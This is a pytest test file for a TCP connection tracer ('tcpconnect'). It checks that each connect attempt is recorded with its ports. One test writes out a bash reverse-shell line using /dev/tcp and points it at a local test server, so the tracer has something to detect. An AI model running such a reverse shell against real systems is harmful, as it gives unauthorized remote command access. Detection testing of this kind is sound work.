"""`tcpconnect`: every attempt to connect is a row, with the port that it was made from."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from network_setup import FAMILIES, Host, Server, own_comm, until
from script_runs import run_script
from seismo.tools.network.tcpconnect import TOOL
from tool_runs import tool_rows, tool_text

pytestmark = pytest.mark.kernel

NEIGHBOUR = "import socket; socket.socket().connect_ex(('127.0.0.1', 1))"


class Attempts:
    """Connects from one host to the other, by IPv4 and IPv6: some are accepted, some are refused,
    some do not wait. `rows` is what is to be shown."""

    def __init__(self, hosts: tuple[Host, Host]) -> None:
        self._left, self._right = hosts
        self.rows: list[dict[str, Any]] = []

    def __call__(self) -> None:
        for family in FAMILIES:
            with Server(self._right, family) as server:
                open_place = server.place
                self._connect(family, open_place)
                self._connect(family, open_place, waits=False)
            self._connect(family, open_place)
            self._connect(family, open_place, waits=False)
        subprocess.run([sys.executable, "-c", NEIGHBOUR], check=True)

    def _connect(self, family: int, place: tuple[str, int], *, waits: bool = True) -> None:
        with self._left.inside():
            client = socket.socket(family, socket.SOCK_STREAM)
        with client:
            client.bind((self._left.address(family), 0))
            client.setblocking(waits)
            client.connect_ex(place)
            self.rows.append(row(client.getsockname(), place))


def row(source: tuple[Any, ...], place: tuple[str, int]) -> dict[str, Any]:
    where = {"saddr": source[0], "sport": source[1], "daddr": place[0], "dport": place[1]}
    return {"pid": os.getpid(), "comm": own_comm(), **where}


def test_every_attempt_is_a_row(hosts: tuple[Host, Host]) -> None:
    act = Attempts(hosts)
    assert tool_rows("tcpconnect", "-p", str(os.getpid()), act=act) == act.rows


def test_one_that_nobody_answers_is_a_row(hosts: tuple[Host, Host]) -> None:
    """Of a SYN that is lost there is nothing but the attempt, and the SYNs after it."""
    left, right = hosts
    processes = []
    with Server(right) as server:
        program = f"import socket; socket.create_connection({server.place})"

        def act() -> None:
            with left.silent():
                command = left.command(sys.executable, "-c", program)
                with subprocess.Popen(command) as process:
                    until(lambda: left.counter("TCPSynRetrans") > 0)
                    process.kill()
            processes.append(process.pid)

        (found,) = tool_rows("tcpconnect", "-P", str(server.place[1]), act=act)
        assert [found["pid"]] == processes
        assert (found["saddr"], found["daddr"], found["dport"]) == (left.ipv4, *server.place)
        assert found["sport"] > 0


def test_a_shell_that_connects_back(hosts: tuple[Host, Host]) -> None:
    """As text: the port is the one that the listener sees."""
    left, right = hosts
    seen = []

    def act() -> None:
        with Server(right) as server:
            line = f"exec 0<>/dev/tcp/{server.place[0]}/{server.place[1]} 1>&0; id"
            with subprocess.Popen(left.command("bash", "-c", line)) as shell:
                peer, place = server.accept()
                with peer:
                    assert peer.recv(100).startswith(b"uid=")
            seen.append(["bash", *map(str, (*place, *server.place))])
            assert shell.returncode == 0
            with left.inside(), socket.create_connection(server.place):
                pass

    heading, *lines = tool_text("tcpconnect", "--comm", "bash", act=act).splitlines()
    assert heading.split() == ["PID", "COMM", "SADDR", "SPORT", "DADDR", "DPORT"]
    assert [line.split()[1:] for line in lines] == seen
    assert lines[0].index(right.ipv4) == heading.index("DADDR")


@pytest.mark.guest
def test_each_script_gives_the_same_rows(hosts: tuple[Host, Host]) -> None:
    for script in TOOL.scripts:
        act = Attempts(hosts)
        output = run_script(Path(TOOL.path(script)).read_text(), act).output
        lines = [line.split() for line in output.splitlines()]
        mine = [line for line in lines if line[:1] == [str(os.getpid())]]
        assert mine == [[*map(str, one.values())] for one in act.rows], script
